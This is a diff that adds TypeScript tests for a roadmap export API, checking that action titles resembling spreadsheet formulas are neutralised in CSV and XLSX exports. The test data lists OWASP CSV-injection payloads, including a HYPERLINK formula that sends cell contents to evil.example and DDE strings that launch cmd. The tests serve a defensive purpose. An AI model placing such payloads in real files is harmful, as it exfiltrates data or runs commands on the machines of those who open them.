@@ -104,4 +104,59 @@ describe('exporting a roadmap', () => {
     expect(bad.body.errors[0]).toMatchObject({ field: 'format', message: 'format doit valoir xlsx ou csv.' });
     await http.get('/api/roadmaps/00000000-0000-4000-8000-000000000000/export?format=csv').expect(404);
   });
+
+  // last: it adds actions to the roadmap the tests above count
+  describe('titles a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+    const DANGEROUS = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
+
+    /** the titles as stored (the API trims a title: a leading tab or carriage return goes, the `=` after it stays) */
+    const stored: string[] = [];
+
+    beforeAll(async () => {
+      const base = actions[0];
+      for (const title of DANGEROUS) {
+        const res = await http
+          .post(`/api/roadmaps/${roadmap.id}/actions`)
+          .send({ functionId: base.functionId, title: `${title} fin`, start: base.start, due: base.due })
+          .expect(201);
+        stored.push((res.body as ActionView).title);
+      }
+      expect(stored.every((t) => /^[=+\-@]/.test(t))).toBe(true);
+    });
+
+    it('writes them in the CSV as text: a leading apostrophe, the title otherwise whole', async () => {
+      const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=csv&at=${AT}`).buffer(true).parse(asParser).expect(200);
+      const text = (res.body as Buffer).toString('utf8');
+      for (const title of stored) {
+        const field = /[";\n\r\t]/.test(title) ? `"'${title.replace(/"/g, '""')}"` : `'${title}`;
+        expect(text).toContain(`;${field};`);
+      }
+      // and no field of the file starts with a formula character any more
+      const fields = text
+        .slice(1)
+        .split(/;|\r\n/)
+        .map((f) => f.replace(/^"/, ''));
+      expect(fields.filter((f) => /^[=+@]/.test(f))).toEqual([]);
+    });
+
+    it('keeps them plain text cells in the XLSX, as typed', async () => {
+      const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=xlsx&at=${AT}`).buffer(true).parse(asParser).expect(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(res.body as unknown as ArrayBuffer);
+      const cells = new Map<string, ExcelJS.Cell>();
+      book.getWorksheet('Actions')!.eachRow((row) => cells.set(String(row.getCell(3).value), row.getCell(3)));
+      for (const title of stored) {
+        const cell = cells.get(title);
+        expect(cell?.type).toBe(ExcelJS.ValueType.String);
+        expect(cell?.formula).toBeUndefined();
+      }
+    });
+  });
 });
